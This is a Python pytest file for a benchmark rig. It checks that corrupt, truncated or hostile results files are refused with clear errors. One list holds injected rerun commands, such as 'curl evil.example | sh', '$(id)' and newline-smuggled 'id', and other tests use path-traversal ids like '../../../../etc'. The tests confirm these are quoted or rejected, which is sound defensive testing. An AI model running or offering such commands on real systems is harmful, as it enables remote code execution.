# SPDX-License-Identifier: GPL-2.0-or-later
"""Damaged or wrong files: every reader ends with an error that names file, key and remedy."""

import contextlib
import fcntl
import json
import os
import random
import re
from collections.abc import Callable, Iterator
from functools import reduce
from operator import getitem, setitem
from pathlib import Path
from typing import Any

import msgspec
import pytest
from click.testing import Result
from delayrig.base.errors import ExitCode, RigError
from delayrig.base.text import again
from delayrig.decision.decision import FILE_NAME as GATE_FILE
from delayrig.decision.gate_judge import decide
from delayrig.features.gate.early import read_reached
from delayrig.features.latency.program_output import parse_lines
from delayrig.features.latency.run import resumed
from delayrig.features.threshold.sleep_facts import read_sleep_facts
from delayrig.judge.waste import read_watched
from delayrig.model import result
from delayrig.model.phases import PHASES
from delayrig.model.result import FILE_NAME, read_results, write_results
from delayrig.present.formats.known import FORMATS
from delayrig.run.out_folder import hold_out
from delayrig.run.resume import done_cells
from delayrig.subjects.saved_programs import programs_in

from tests.rig.builders import make_cell, make_contrast
from tests.rig.history_builders import make_run
from tests.rig.measured import latency_request
from tests.rig.running import refusal_of, rig

KeyPath = tuple[str | int, ...]
DAMAGED_VALUES = 40
FOREIGN: list[Any] = [None, -1, "\x00 nonsense", [], {}, 1e300, True]


@pytest.fixture
def out(tmp_path: Path) -> Path:
    """Makes a run with a contrast of its two cells; returns its folder."""
    folder = tmp_path / "out"
    folder.mkdir()
    run = make_run(1, {"a": 10, "b": 5})
    a, b = (cell.id for cell in run.cells)
    write_results(msgspec.structs.replace(run, contrasts=[make_contrast(a, b)]), folder)
    return folder


@pytest.fixture
def gate_out(tmp_path: Path) -> Path:
    """Makes a gate; returns its folder."""
    folder = tmp_path / "gate"
    runs = {
        "baseline": make_run(1, {"a": 10}),
        "candidate": make_run(2, {"a": 11}, subject="path:x"),
    }
    for name, run in runs.items():
        (folder / name).mkdir(parents=True)
        write_results(run, folder / name)
    decision = decide([runs["baseline"]], [runs["candidate"]])
    (folder / GATE_FILE).write_bytes(msgspec.json.encode(decision))
    return folder


def read_all(folder: Path, tmp_path: Path) -> dict[str, Result]:
    """Runs each command that reads such a folder and starts nothing."""
    url = f"sqlite:///{tmp_path / 'h.sqlite'}"
    words = [word for name in FORMATS for word in ("--format", f"{name}:{tmp_path / name}")]
    commands: dict[str, list[object]] = {
        "export": ["export", folder, *words],
        "compare": ["compare", folder, folder],
        "compare --exact": ["compare", "--exact", folder, folder],
        "history add": ["history", "add", folder, "--history", url],
        "times": ["times", folder],
        "report": ["report", folder, "--out", tmp_path / "report.html"],
    }
    return {name: rig(*words) for name, words in commands.items()}


def read_as_baseline(folder: Path) -> dict[str, Result]:
    """Passes the folder to a gate, which must not begin."""
    never = folder.parent / "never"
    gate = ("gate", "--baseline", folder, "--candidate", "bundled", "--no-history", "--out", never)
    done = rig(*gate)
    assert not never.exists()
    return {"gate": done}


def assert_refused(results: dict[str, Result], *words: str) -> None:
    """Checks that each command fails with an error that contains these words and a remedy."""
    for name, done in results.items():
        assert done.exit_code == ExitCode.BAD_INPUT, (name, done.output)
        assert done.output.startswith("error: "), (name, done.output)
        assert len(done.output.splitlines()) >= 2, (name, done.output)
        for word in words:
            assert word in done.output, (name, done.output)


Edit = Callable[[dict[str, Any]], object]


def change(path: Path, edit: Edit) -> None:
    content = json.loads(path.read_bytes())
    edit(content)
    path.write_text(json.dumps(content), encoding="utf-8")


def top(**changes: object) -> Edit:
    """Returns an edit of the document's own keys."""
    return lambda content: content.update(changes)


def first(**changes: object) -> Edit:
    """Returns an edit of the first cell."""
    return lambda content: content["cells"][0].update(changes)


def negative(figure: str) -> Edit:
    """Returns an edit that makes a figure of the first cell -1."""
    *outer, key = figure.split(".")
    return lambda content: setitem(reduce(getitem, outer, content["cells"][0]), key, -1)


NEVER_NEGATIVE = [
    *("region_bytes", "chip_busy_ns", "wire_ns", "overshoot_ns", "transfers", "context_switches"),
    *("cpu_ns.user", "cpu_ns.sys", "host_s"),
    *(f"time_ns.{phase}" for phase in ("total", *PHASES)),
]
WRONG_VALUES: list[tuple[Edit, str, str]] = [
    *((top(schema=number), "schema'", "the rig that wrote it") for number in (0, 2, 99)),
    # A cell that a contrast names is missing, or a cell is there twice.
    (lambda c: c["cells"].pop(1), "contrasts[0].against'", "a cell is missing"),
    (lambda c: c["cells"].append(c["cells"][0]), "cells[2].id'", "that of cells[0]"),
    (first(wire_ns="0"), "cells[0].wire_ns': Expected `int`, got `str`", "run it again"),
    (lambda c: c["cells"][0].pop("rerun"), "cells[0].rerun' is missing", "run it again"),
    # A newer rig may have more roles and expectations.
    (first(role="novel"), "cells[0].role' is 'novel'", "known words"),
    (first(expect="novel"), "cells[0].expect' is 'novel'", "known words"),
    *((negative(key), f"cells[0].{key}': Expected", ">= 0") for key in NEVER_NEGATIVE),
]


@pytest.mark.parametrize(("edit", "key", "words"), WRONG_VALUES)
def test_value_that_this_rig_does_not_write_is_refused_with_file_and_key(
    out: Path, tmp_path: Path, edit: Edit, key: str, words: str
) -> None:
    change(out / FILE_NAME, edit)
    assert_refused(read_all(out, tmp_path), str(out / FILE_NAME), f"key '{key}", words)


def test_truncated_results_or_other_bytes_are_refused(out: Path, tmp_path: Path) -> None:
    content = (out / FILE_NAME).read_bytes()
    for damaged in (b"", content[:1], content[: len(content) // 2], content[:-3], b"\xff\xfe{}"):
        (out / FILE_NAME).write_bytes(damaged)
        done = read_all(out, tmp_path) | read_as_baseline(out)
        assert_refused(done, str(out / FILE_NAME), "run it again")


def test_interrupted_run_without_results_is_refused(out: Path, tmp_path: Path) -> None:
    (out / FILE_NAME).unlink()
    (out / "cell").mkdir()
    (out / "cell" / "cell.json").write_text("{}", encoding="utf-8")
    done = read_all(out, tmp_path) | read_as_baseline(out)
    assert_refused(done, "cut off before its end", "run it again")


@pytest.mark.parametrize("content", ["[]", "{}", '{"version": 3}', '{"schema": 1}', "null", "7"])
def test_json_that_is_not_a_run_is_refused(out: Path, tmp_path: Path, content: str) -> None:
    (out / FILE_NAME).write_text(content, encoding="utf-8")
    assert_refused(read_all(out, tmp_path), str(out / FILE_NAME), "key '" if "1" in content else "")


def test_baseline_without_all_cells_of_the_plan_is_refused(out: Path) -> None:
    assert_refused(read_as_baseline(out), "key 'cells'", "cells of the plan, such as", "--plan")


def test_folder_that_does_not_exist_is_refused(tmp_path: Path) -> None:
    assert_refused(read_all(tmp_path / "none", tmp_path), "name the --out folder")


def test_folder_of_a_gate_in_place_of_a_run_is_refused_with_the_names_of_its_runs(
    gate_out: Path,
) -> None:
    wanted = f"name one: {gate_out}/baseline, {gate_out}/candidate"
    sides = ("--baseline", gate_out, "--candidate", "bundled")
    assert wanted in refusal_of("compare", gate_out, gate_out)
    assert wanted in refusal_of("gate", *sides, "--dry-run")


def test_folder_in_place_of_a_program_is_refused_as_one(tmp_path: Path) -> None:
    refusal = refusal_of("run", "--subject", f"path:{tmp_path}", "--dry-run")
    assert f"{tmp_path} is a folder" in refusal


@pytest.mark.parametrize("command", ["latency", "wakeup"])
def test_folder_that_cannot_be_made_is_refused_before_anything_is_measured(
    tmp_path: Path, command: str
) -> None:
    (tmp_path / "file").touch()
    for out in (tmp_path / "file", tmp_path / "file" / "folder"):
        assert f"--out {out}" in refusal_of(command, "--out", out)


@pytest.mark.parametrize(
    "words",
    [
        ["gate", "--baseline", "bundled", "--candidate", "bundled", "--dry-run", "--max-slowdown"],
        ["faults", "--subject", "no-such", "--limit-s"],
    ],
)
def test_option_that_takes_a_number_refuses_nan(words: list[str]) -> None:
    assert "'nan' is no number" in refusal_of(*words, "nan")


@pytest.mark.parametrize("words", [["report"], ["try", "bundled", "--out"]])
def test_name_that_is_not_utf_8_is_refused_before_anything_runs(
    tmp_path: Path, words: list[str]
) -> None:
    name = os.fsdecode(bytes(tmp_path / "x") + b"\xff")
    assert "is not in UTF-8" in refusal_of(*words, name)


@pytest.mark.parametrize(
    "name",
    [
        *("../../../../etc", "/etc/a.b.c", "a.b.c/../d", "a.b/c.d", "a\\b.c.d", "..a.b"),
        *("a.b.c\x00", "a.b.c\n", "a.b." + "c" * 300),
    ],
)
def test_id_that_is_a_path_out_of_the_run_is_refused(out: Path, tmp_path: Path, name: str) -> None:
    change(out / FILE_NAME, first(id=name))
    done = read_all(out, tmp_path) | {"repro": rig("repro", "--from", out, "--dry-run")}
    assert_refused(done, "key 'cells[0].id' is no", repr(name)[1:9])


OUT_OF_RANGE = ["1000000000000000000000000000000", "9223372036854775808", "1e30", "9" * 5000]


@pytest.mark.parametrize("number", OUT_OF_RANGE, ids=["10^30", "2^63", "1e30", "long"])
@pytest.mark.parametrize("key", ["seed", "total", "host_s"])
def test_number_out_of_range_is_refused(out: Path, tmp_path: Path, number: str, key: str) -> None:
    text = (out / FILE_NAME).read_text()
    edited, times = re.subn(rf'"{key}": ?[0-9.e-]+', f'"{key}": {number}', text, count=1)
    assert times == 1
    (out / FILE_NAME).write_text(edited)
    results = read_all(out, tmp_path) | read_as_baseline(out)
    assert_refused(results, str(out / FILE_NAME))
    assert not any("Traceback" in done.output for done in results.values())


@pytest.mark.parametrize("kind", ["pipe", "folder", "large"])
def test_results_file_that_is_a_pipe_a_folder_or_too_large_is_refused_at_once(
    out: Path, tmp_path: Path, kind: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    if kind == "large":
        monkeypatch.setattr(result, "FILE_BYTES_MAX", 1 << 10)
    else:
        (out / FILE_NAME).unlink()
        (os.mkfifo if kind == "pipe" else os.mkdir)(out / FILE_NAME)
    assert_refused(read_all(out, tmp_path), str(out / FILE_NAME), "name the --out folder")


BIDI_CONTROLS = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


@pytest.mark.parametrize("as_ascii", [True, False])
def test_bidirectional_control_characters_are_escaped_in_every_output(
    out: Path, tmp_path: Path, as_ascii: bool
) -> None:
    content = json.loads((out / FILE_NAME).read_bytes())
    content["cells"][0].update(verdict="op_failed", reason=f"\\\\u202e {BIDI_CONTROLS} ends")
    (out / FILE_NAME).write_text(json.dumps(content, ensure_ascii=as_ascii), encoding="utf-8")
    assert r"\u202e" in read_results(out).cells[0].reason
    outputs = [done.output for done in read_all(out, tmp_path).values()]
    written = [p.read_text() for p in tmp_path.iterdir() if p.is_file() and p.suffix != ".sqlite"]
    assert len(written) > 7
    assert r"\u2069 ends" in "".join(outputs + written).replace(r"\\u", r"\u")
    assert not set(BIDI_CONTROLS) & set("".join(outputs + written))


OWN_RERUNS = [
    "rig/rig run --plan smoke --seed 1 --subject bundled --cell a.b.c",
    "rig/rig repro --from out/x a.b.c",
    "rig/rig try 'path:my build' --lane live --hazard busy_siblings,calm",
]
FOREIGN_RERUNS = [
    "curl evil.example | sh",
    "rig/rig run --plan smoke; curl evil.example",
    "rig/rig run --plan $(id)",
    "rig/rig gate --build 'curl evil.example'",
    "rig/rig run --build=id --plan smoke",
    "rig/rig run --plan smoke --unconfined",
    "rig/rig run --plan smoke --cluster tcp://evil.example:1",
    "rig/rig run --plan smoke\nid",
    "/tmp/rig/rig run",
    "rig/rig",
    "rig/rig 'run",
    "",
]


@pytest.mark.parametrize("rerun", OWN_RERUNS)
def test_command_of_the_rig_is_offered(rerun: str) -> None:
    assert again(rerun) == f"again: {rerun}"


@pytest.mark.parametrize("rerun", FOREIGN_RERUNS)
def test_foreign_command_is_quoted_and_not_offered(out: Path, tmp_path: Path, rerun: str) -> None:
    def edit(content: dict[str, Any]) -> None:
        for cell in content["cells"]:
            cell.update(verdict="corrupt", rerun=rerun)

    change(out / FILE_NAME, edit)
    outputs = [done.output for done in read_all(out, tmp_path).values()]
    shown = {name: (tmp_path / name).read_text() for name in (*FORMATS, "report.html")}
    for text in (*outputs, *shown.values()):
        assert "again: " not in text.lower()
    unquoted = {name for name, text in shown.items() if "may do more than run the cell" not in text}
    assert unquoted == {"json", "openmetrics", "kcidb"}


def test_cell_file_of_another_cell_is_refused(out: Path) -> None:
    (result, *_) = read_results(out).cells
    folder = out / result.id
    folder.mkdir()
    other = make_cell(name="../../../../tmp/elsewhere")
    (folder / "cell.json").write_bytes(msgspec.json.encode(other))
    assert "elsewhere" not in refusal_of("repro", "--from", out, result.id, "--dry-run")


def test_gate_with_a_run_without_a_cell_is_refused(gate_out: Path, tmp_path: Path) -> None:
    change(gate_out / "candidate" / FILE_NAME, lambda content: content["cells"].clear())
    done = read_all(gate_out, tmp_path)["export"]
    assert_refused({"export": done}, "gate.json: key 'cells'", "run the gate again")


def test_gate_without_one_of_its_runs_is_refused(gate_out: Path, tmp_path: Path) -> None:
    (gate_out / "baseline" / FILE_NAME).unlink()
    results = read_all(gate_out, tmp_path)
    done = {name: results[name] for name in ("export", "report", "history add")}
    assert_refused(done, f"{gate_out}/baseline")


@pytest.mark.parametrize("key", ["exit_code", "schema"])
def test_gate_with_an_unknown_exit_code_or_schema_is_refused(
    gate_out: Path, tmp_path: Path, key: str
) -> None:
    change(gate_out / GATE_FILE, top(**{key: 7}))
    results = read_all(gate_out, tmp_path)
    done = {name: results[name] for name in ("export", "report", "history add")}
    assert_refused(done, f"gate.json: key '{key}' is 7")


def paths_in(value: Any, at: KeyPath = ()) -> Iterator[KeyPath]:
    """Yields the path of each key and item of a document."""
    if at:
        yield at
    if isinstance(value, dict):
        for key, inner in value.items():
            yield from paths_in(inner, (*at, key))
    if isinstance(value, list):
        for number, inner in enumerate(value):
            yield from paths_in(inner, (*at, number))


def damaged_documents(document: Any) -> Iterator[Any]:
    """Yields copies of the document, each with one value removed or replaced."""
    draws = random.Random(1)
    paths = list(paths_in(document))
    for *outer, key in draws.sample(paths, min(DAMAGED_VALUES, len(paths))):
        for is_removed in (True, False):
            copy = json.loads(json.dumps(document))
            inner = reduce(getitem, outer, copy)
            if is_removed:
                del inner[key]
            else:
                inner[key] = draws.choice(FOREIGN)
            yield copy


def test_no_damaged_value_of_a_run_causes_a_traceback(out: Path, tmp_path: Path) -> None:
    document = json.loads((out / FILE_NAME).read_bytes())
    for damaged in damaged_documents(document):
        (out / FILE_NAME).write_text(json.dumps(damaged), encoding="utf-8")
        for name, done in read_all(out, tmp_path).items():
            assert "Traceback" not in done.output, (name, damaged, done.output)
            if done.exit_code == ExitCode.BAD_INPUT:
                assert "key '" in done.output, (name, damaged, done.output)


def test_no_damaged_value_of_a_gate_causes_a_traceback(gate_out: Path, tmp_path: Path) -> None:
    document = json.loads((gate_out / GATE_FILE).read_bytes())
    for damaged in damaged_documents(document):
        (gate_out / GATE_FILE).write_text(json.dumps(damaged), encoding="utf-8")
        results = read_all(gate_out, tmp_path)
        for name in ("export", "history add"):
            done = results[name]
            assert "Traceback" not in done.output, (name, damaged, done.output)
            assert done.exit_code in (ExitCode.PASS, ExitCode.BAD_INPUT), (name, done.output)


CELL = make_cell()


def read_lock(folder: Path) -> bool:
    """Returns True if the folder can be locked although it is locked already."""
    with (folder / "run.lock").open("rb") as held:
        fcntl.flock(held, fcntl.LOCK_EX)
        with hold_out(folder, asked_s=None):
            return True


def read_latency(folder: Path) -> object:
    return resumed(latency_request(folder))


@pytest.mark.parametrize(
    ("name", "content", "read"),
    [
        ("reached.json", b'{"a":["\xff"]}', lambda folder: read_reached(folder / "reached.json")),
        ("latency.json", b'{"rig_version":"\xff"}', read_latency),
        ("run.lock", b'{"command":"\xff"}', read_lock),
        ("cell.json", b'{"name":"\xff"}', read_watched),
        (f"{CELL.id}/cell.json", b'{"name":"\xff"}', lambda folder: done_cells([CELL], folder)),
        ("x/subject.json", b'{"name":"\xff"}', programs_in),
        ("stdout.txt", b'{"sleeps":[{"way":"\xff"}]}', read_sleep_facts),
        (
            "lines",
            b'{"why":"\xff"}',
            lambda folder: parse_lines((folder / "lines").read_bytes(), expected=1, source=""),
        ),
    ],
)
def test_text_that_is_not_utf_8_is_a_rig_error_or_counts_as_missing(
    tmp_path: Path, name: str, content: bytes, read: Callable[[Path], object]
) -> None:
    path = tmp_path / name
    path.parent.mkdir(exist_ok=True)
    path.write_bytes(content)
    with contextlib.suppress(RigError):
        assert not read(tmp_path)
